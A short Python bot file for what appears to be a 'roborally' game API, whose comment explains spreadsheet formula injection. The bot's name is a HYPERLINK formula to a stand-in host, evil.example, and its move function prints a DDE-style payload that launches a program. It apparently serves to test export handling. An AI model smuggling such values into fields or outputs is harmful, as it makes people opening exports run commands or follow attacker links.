from roborally.api import *
# A spreadsheet opening an export runs a cell that starts with = + - @ as a formula.
name = '=HYPERLINK("http://evil.example","x")'
def move():
    print('@SUM(1+1)*cmd|" /C calc"!A0')
    return FORWARD
